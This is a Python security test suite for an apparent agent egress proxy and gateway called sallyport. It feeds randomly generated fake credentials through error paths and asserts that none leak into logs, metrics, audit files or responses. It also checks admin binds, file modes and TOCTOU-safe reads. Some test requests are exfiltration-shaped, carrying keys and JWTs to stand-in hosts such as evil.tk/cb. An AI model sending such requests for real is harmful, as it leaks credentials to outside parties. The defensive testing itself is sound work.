#!/usr/bin/python3
"""Secret hygiene: drive the proxy, gateway, admin and config error paths with real-looking
secrets (OpenAI project keys, Bearer/Basic credentials, JWTs, PEM private keys, AWS keys, a
provider key sallyport itself holds) in headers, bodies, URLs, query strings and config values;
then assert that no log line (stdout/stderr), audit record, /metrics line or error body carries
any of them. Also: admin token compare is constant-time (source check), non-loopback plaintext
admin binds are refused unless allowed, key/state files are 0600, and config / policy / key
reads are TOCTOU-safe (a FIFO or symlink in their place is rejected promptly).
    test_hygiene.py [case ...]"""
import base64
import json
import os
import random
import re
import socket
import string
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "faults"))
from faultlib import (AS_ROOT, BIN, SOURCE, RawServer, Router, TempWork, as_user,  # noqa: E402
                      connect_via, free_port, http, provider, read_request, run_cases)

RNG = random.Random()  # fresh secrets every run: a hit can only come from this run


def rand(alphabet, n):
    return "".join(RNG.choice(alphabet) for _ in range(n))


ALNUM = string.ascii_letters + string.digits
B64URL = ALNUM + "-_"
OPENAI_KEY = "sk-proj-" + rand(ALNUM, 48)              # the agent's (stolen) key
PROVIDER_KEY = "sk-proj-" + rand(ALNUM, 48)            # the real key sallyport holds
BEARER = "ghp_" + rand(ALNUM, 36)
BASIC_PASS = "Pw!" + rand(ALNUM, 20)
BASIC = base64.b64encode(f"alice:{BASIC_PASS}".encode()).decode()
JWT = ".".join(base64.urlsafe_b64encode(json.dumps(p).encode()).decode().rstrip("=") for p in (
    {"alg": "HS256", "typ": "JWT"}, {"sub": rand(ALNUM, 12), "iat": 1700000000})) + "." + rand(B64URL, 43)
PEM_BODY = rand(ALNUM + "+/", 64)
PEM = f"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC{PEM_BODY}\n-----END PRIVATE KEY-----"
AWS_ID = "AKIA" + rand(string.ascii_uppercase + string.digits, 16)
AWS_SECRET = rand(ALNUM + "/+", 40)
ADMIN_GUESS = "admin-" + rand(ALNUM, 32)

# What must never appear: each secret and a distinctive 16-character piece of it (catches
# truncated or partially masked leaks).
SECRETS = {
    "openai_key": OPENAI_KEY, "provider_key": PROVIDER_KEY, "bearer": BEARER, "basic_b64": BASIC,
    "basic_password": BASIC_PASS, "jwt": JWT, "pem_body": PEM_BODY, "aws_id": AWS_ID,
    "aws_secret": AWS_SECRET, "admin_guess": ADMIN_GUESS,
}


def leaks(text, where):
    found = []
    for name, secret in SECRETS.items():
        for piece in {secret, secret[-16:], secret[8:24]}:
            at = text.find(piece)
            if at >= 0:
                found.append(f"{name} in ...{text[max(0, at - 80):at + 40]!r}...")
                break
    return [f"{where}: {n}" for n in found]


def raw_request(port, data, timeout=5):
    """Sends raw bytes, returns whatever comes back until close/timeout."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    try:
        s.sendall(data)
        out = b""
        while True:
            try:
                part = s.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not part:
                break
            out += part
        return out
    finally:
        s.close()


def secret_upstream():
    """A provider that answers 401 echoing the key it was sent (as some providers do) and 500 with
    a body holding the agent's key: sallyport must not log or relay those."""
    def behaviour(conn, stopping):
        while True:
            req = read_request(conn)
            if not req:
                return
            text = req.decode(errors="replace")
            sent_key = re.search(r"(?i)authorization: bearer (\S+)", text)
            body = json.dumps({"error": {"message": f"Incorrect API key provided: {sent_key.group(1) if sent_key else ''}",
                                         "type": "invalid_request_error", "code": "invalid_api_key"}}).encode()
            conn.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
    return RawServer(behaviour)


# ------------------------------------------------------------------------------------------------
def case_no_secret_leaks():
    upstream = secret_upstream()
    with TempWork("sallyport-hygiene-") as work:
        router = Router(work, overrides={
            "log": {"level": "debug"},
            "egress": {"connect_ports": [443, 8443], "resolvers": [f"127.0.0.1:{free_port()}"],
                       "limits": {"dns_timeout": "300ms"}},
            "providers": [provider(upstream.port, "mock", ["gpt-*"])],
            "audit": {"sinks": []}}, env={"FAULT_OPENAI_KEY": PROVIDER_KEY})
        bodies = []
        try:
            router.start()
            proxy, gw, admin = router.ports["proxy"], router.ports["gateway"], router.ports["admin"]
            auth_headers = [f"Proxy-Authorization: Basic {BASIC}", f"Proxy-Authorization: Bearer {BEARER}",
                            f"Authorization: Bearer {JWT}", f"X-Api-Key: {OPENAI_KEY}",
                            f"Cookie: session={JWT}; aws={AWS_SECRET}"]
            hdrs = ("\r\n".join(auth_headers) + "\r\n").encode()
            # Proxy: denied CONNECT, CONNECT that fails DNS, bad port, absolute-form GET with
            # userinfo + query secrets, malformed request line, oversized header holding a secret.
            for target in ("blocked.tk:443", "no-such-host.example:443", "example.com:22"):
                bodies.append(raw_request(proxy, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n".encode() + hdrs + b"\r\n"))
            for url in (f"http://alice:{BASIC_PASS}@evil.tk/cb?key={OPENAI_KEY}&jwt={JWT}",
                        f"http://no-such-host.example/collect?aws={AWS_ID}&secret={AWS_SECRET}",
                        f"http://example.com:8443/x?token={BEARER}"):
                bodies.append(raw_request(proxy, f"GET {url} HTTP/1.1\r\nHost: x\r\n".encode() + hdrs + b"\r\n"))
            bodies.append(raw_request(proxy, f"CONNECT {OPENAI_KEY}\r\n{PEM}\r\n\r\n".encode()))
            bodies.append(raw_request(proxy, b"GET http://example.com/ HTTP/1.1\r\nX-Fill: " + b"a" * 20000 +
                                      f"\r\nAuthorization: Bearer {BEARER}\r\n\r\n".encode()))
            bodies.append(raw_request(proxy, f"CONNECT {OPENAI_KEY.lower()[:60]}.example:443 HTTP/1.1\r\n\r\n".encode()))
            # Gateway: the agent's own keys in every auth header; secrets in bodies, model names,
            # paths and query strings; invalid JSON; unknown routes; a provider answering 401
            # with the key echoed.
            gw_headers = {"Authorization": f"Bearer {OPENAI_KEY}", "api-key": AWS_SECRET,
                          "x-api-key": BEARER, "Content-Type": "application/json"}
            messages = [{"role": "user", "content": f"my keys: {AWS_ID} {AWS_SECRET}\n{PEM}\n{JWT}"}]
            cases = [
                ("/v1/chat/completions", {"model": "gpt-4o", "messages": messages}),               # upstream 401
                ("/v1/chat/completions", {"model": "gpt-4o", "stream": True, "messages": messages}),
                ("/v1/chat/completions", {"model": f"unknown-{OPENAI_KEY}", "messages": messages}),
                ("/v1/chat/completions", {"model": "gpt-4o", "messages": f"{JWT}"}),
                (f"/v1/chat/completions?api_key={OPENAI_KEY}", {"model": "gpt-4o", "messages": messages}),
                (f"/openai/deployments/{AWS_ID}/chat/completions?api-version=1&api-key={AWS_SECRET}",
                 {"messages": messages}),
                (f"/v1/{BEARER}", {"model": "gpt-4o"}),
                ("/v1/messages", {"model": "claude-x", "max_tokens": 5, "messages": messages}),
            ]
            for path, body in cases:
                status, headers, answer = http("POST", router.gateway + path, json.dumps(body).encode(), gw_headers)
                bodies.append(answer + json.dumps(headers).encode())
            status, _, answer = http("POST", router.gateway + "/v1/chat/completions",
                                     b'{"model": "gpt-4o", "messages": [' + PEM.encode() + b"]", gw_headers)
            bodies.append(answer)
            bodies.append(raw_request(gw, f"POST /v1/chat/completions?key={OPENAI_KEY} HTTP/1.1\r\n"
                                          f"Authorization: Bearer {OPENAI_KEY}\r\nContent-Length: 5\r\n\r\n{{{{{{".encode()))
            # Admin: wrong tokens of every shape.
            for value in (f"Bearer {ADMIN_GUESS}", f"Basic {BASIC}", f"Bearer {JWT}", ADMIN_GUESS):
                for path in ("/admin/budget", f"/admin/trust?token={ADMIN_GUESS}", "/admin/config"):
                    status, _, answer = http("GET", router.admin + path, headers={"Authorization": value})
                    assert status == 401, (path, status)
                    bodies.append(answer)
            # The masked config dump must not show the provider key either.
            status, _, answer = router.admin_get("/admin/config")
            assert status == 200, status
            bodies.append(answer)
            time.sleep(0.5)
            metrics = router.metrics()
            router.stop()
            problems = []
            problems += leaks(router.log(), "sallyport log")
            problems += leaks(metrics, "/metrics")
            for name in os.listdir(router.audit_dir):
                with open(os.path.join(router.audit_dir, name), errors="replace") as f:
                    problems += leaks(f.read(), f"audit {name}")
            for i, b in enumerate(bodies):
                problems += leaks(b.decode(errors="replace"), f"answer #{i}")
            assert not problems, "secrets leaked:\n  " + "\n  ".join(problems)
            # The upstream saw the provider key, so the 401 path really ran.
            assert "gateway" in router.log() and len(router.log()) > 2000
            print(f"  {len(bodies)} error answers, {len(router.log().splitlines())} log lines, "
                  f"{len(metrics.splitlines())} metric lines, audit files: no secret found")
        finally:
            router.stop()
            upstream.stop()


def case_config_secrets_not_echoed():
    """A bad config holding secrets (literal keys where references belong, unknown keys, wrong
    types): check-config and run fail with clear errors that never print the values."""
    with TempWork("sallyport-hygiene-cfg-") as work:
        bad_configs = [
            {"admin": {"token": f"Bearer {BEARER}"}},
            {"providers": [{"name": "p", "kind": "openai", "base_url": "https://api.openai.com/v1",
                            "api_key": OPENAI_KEY}]},
            {"providers": [{"name": "p", "kind": "openai", "base_url": f"https://u:{BASIC_PASS}@api.example/v1?k={AWS_SECRET}",
                            "api_key": {"env": "X"}, "secret": PROVIDER_KEY}]},
            {"audit": {"sinks": [{"name": "s", "kind": "http", "url": f"http://127.0.0.1:1/?token={JWT}",
                                  "token": AWS_SECRET}]}},
            {"identity": {"sandbox": {"env": "X", "value": PEM}}, "aws_secret_access_key": AWS_SECRET},
            {"egress": {"proxy_token": AWS_ID, "resolvers": [OPENAI_KEY]}},
        ]
        problems = []
        for i, cfg in enumerate(bad_configs):
            path = os.path.join(work, f"bad{i}.json")
            with open(path, "w") as f:
                json.dump(cfg, f)
            os.chmod(path, 0o644)
            for argv in ([BIN, "check-config", path], [BIN, "run", "--config", path]):
                r = subprocess.run(as_user(1001, argv), capture_output=True, text=True, timeout=20)
                assert r.returncode != 0, f"config {i} accepted by {argv[1]}: {cfg}"
                out = r.stdout + r.stderr
                assert out.strip(), f"config {i}: no error message"
                problems += leaks(out, f"{argv[1]} config {i}")
        # Not JSON at all, with secrets in it.
        path = os.path.join(work, "broken.json")
        with open(path, "w") as f:
            f.write('{"admin": {"token": "' + OPENAI_KEY + '"\n' + PEM + "\n")
        os.chmod(path, 0o644)
        r = subprocess.run(as_user(1001, [BIN, "check-config", path]), capture_output=True, text=True, timeout=20)
        assert r.returncode != 0
        problems += leaks(r.stdout + r.stderr, "check-config broken JSON")
        assert not problems, "secrets echoed:\n  " + "\n  ".join(problems)
        print(f"  {len(bad_configs) + 1} bad configs rejected without echoing a secret; e.g. "
              f"{(r.stdout + r.stderr).strip().splitlines()[0][:160]}")


# ------------------------------------------------------------------------------------------------
def case_admin_constant_time_compare():
    src = open(os.path.join(SOURCE, "router/admin_api.cpp")).read()
    assert re.search(r"\b(CRYPTO_memcmp|sodium_memcmp)\s*\(", src), "admin token compare is not constant-time"
    # No early-exit string compare of the token anywhere else.
    assert not re.search(r"token_?\s*==|==\s*\*?expected|expected\s*==", src), "a plain == on the admin token"
    print("  router/admin_api.cpp compares the token with CRYPTO_memcmp")


def case_admin_plaintext_bind():
    """A non-loopback admin bind without TLS is refused at start unless explicitly allowed."""
    with TempWork("sallyport-hygiene-bind-") as work:
        for address in ("0.0.0.0", "[::]"):
            router = Router(work, name=f"r{address.strip('[]:.')}")
            router.config["listeners"]["admin"] = f"{address}:{free_port()}"
            router.write_config()
            router.start(wait_ready=False)
            rc = router.wait_exit(15)
            assert rc != 0, f"admin on {address} without TLS was accepted"
            err = [r for r in router.log_records() if r.get("level") == "error"]
            assert err and "non-loopback" in err[0]["msg"] and "allow_non_loopback_plaintext" in json.dumps(err[0]), err
        # Explicitly allowed: it starts (checked over loopback only), and warns.
        router = Router(work, name="allowed")
        port = free_port()
        router.config["listeners"]["admin"] = f"0.0.0.0:{port}"
        router.config["admin"]["allow_non_loopback_plaintext"] = True
        router.write_config()
        router.ports["admin"] = port
        try:
            router.start()
            assert http("GET", router.admin + "/healthz")[0] == 200
        finally:
            router.stop()
        print("  0.0.0.0 and [::] refused (exit non-zero, hint names admin.allow_non_loopback_plaintext); allowed when set")


def file_mode(path):
    return os.stat(path).st_mode & 0o777


def case_state_file_modes():
    """Files holding keys or state are 0600 (dirs 0700); audit segments 0640 (readable by a log
    shipper group, never world); the public key may be world-readable."""
    feed_body = b"evil.example\n"
    from faultlib import MutableHttpServer
    feed = MutableHttpServer(200, feed_body)
    port = free_port()
    with TempWork("sallyport-hygiene-modes-") as work:
        policy = os.path.join(work, "policy.json")
        with open(policy, "w") as f:
            json.dump({"version": 1, "default": "allow", "rules": []}, f)
        os.chmod(policy, 0o644)
        router = Router(work, overrides={
            "egress": {"feeds": [{"name": "f", "url": f"http://127.0.0.1:{feed.port}/l.txt"}]},
            "policy": {"file": policy},
            "audit": {"sinks": [{"name": "siem", "kind": "http", "url": f"http://127.0.0.1:{port}/"}]}})
        try:
            router.start()
            s, _, _ = connect_via(router.ports["proxy"], "evil.example:443")  # a deny: trust changes
            s.close()
            time.sleep(1.5)
        finally:
            router.stop()
            feed.stop()
        report, bad = [], []
        for root, dirs, files in os.walk(router.state_dir):
            for d in dirs:
                p = os.path.join(root, d)
                report.append((p, file_mode(p)))
                if file_mode(p) & 0o077:
                    bad.append(f"dir {p} is {oct(file_mode(p))}")
            for name in files:
                p = os.path.join(root, name)
                mode = file_mode(p)
                report.append((p, mode))
                if name.endswith(".pub"):
                    allowed = 0o644
                elif name.startswith("audit-") or name.endswith(".torn"):
                    allowed = 0o640
                else:
                    allowed = 0o600
                if mode & ~allowed:
                    bad.append(f"{p} is {oct(mode)}, expected at most {oct(allowed)}")
        names = {os.path.basename(p) for p, _ in report}
        for must in ("identity.ed25519",):
            assert must in names, f"{must} missing: {sorted(names)}"
        assert any(n.startswith("budget-") for n in names), sorted(names)
        assert any(n.startswith("audit-") for n in names), sorted(names)
        if file_mode(router.state_dir) & 0o077:
            bad.append(f"state_dir is {oct(file_mode(router.state_dir))}")
        assert not bad, "\n".join(bad)
        print("  " + ", ".join(f"{os.path.relpath(p, router.state_dir)}={oct(m)}" for p, m in sorted(report)))


def case_toctou_safe_reads():
    """Config, tool policy and the identity key are read by open + fstat on the same fd: a FIFO in
    a config's or policy's place is rejected at once (no hang), a symlinked or group-readable
    secret key is refused."""
    with TempWork("sallyport-hygiene-toctou-") as work:
        fifo = os.path.join(work, "config.fifo")
        os.mkfifo(fifo)
        os.chmod(fifo, 0o666)
        t0 = time.time()
        r = subprocess.run(as_user(1001, [BIN, "check-config", fifo]), capture_output=True, text=True, timeout=20)
        took = time.time() - t0
        assert r.returncode != 0 and "regular file" in (r.stdout + r.stderr), r.stdout + r.stderr
        assert took < 5, f"check-config on a FIFO took {took:.1f}s"
        # Tool policy file replaced by a FIFO: start-up fails with a clear error, promptly.
        router = Router(work, name="policy", overrides={"policy": {"file": fifo}})
        router.start(wait_ready=False)
        rc = router.wait_exit(15)
        assert rc != 0 and "regular file" in router.log(), router.log()[-1500:]
        # Identity key: group-readable or a symlink → refused.
        router = Router(work, name="key")
        router.start()
        router.stop()
        key = os.path.join(router.state_dir, "identity.ed25519")
        os.chmod(key, 0o640)
        router.start(wait_ready=False)
        assert router.wait_exit(15) != 0 and "0600" in router.log(), router.log()[-1500:]
        os.chmod(key, 0o600)
        moved = key + ".real"
        os.rename(key, moved)
        os.symlink(moved, key)
        router.start(wait_ready=False)
        assert router.wait_exit(15) != 0, "a symlinked identity key was followed"
        print(f"  FIFO config rejected in {took:.2f}s; FIFO policy, 0640 key, symlinked key refused at start")


CASES = {
    "no_secret_leaks": case_no_secret_leaks,
    "config_secrets_not_echoed": case_config_secrets_not_echoed,
    "admin_constant_time_compare": case_admin_constant_time_compare,
    "admin_plaintext_bind": case_admin_plaintext_bind,
    "state_file_modes": case_state_file_modes,
    "toctou_safe_reads": case_toctou_safe_reads,
}

if __name__ == "__main__":
    sys.exit(run_cases(CASES, sys.argv))
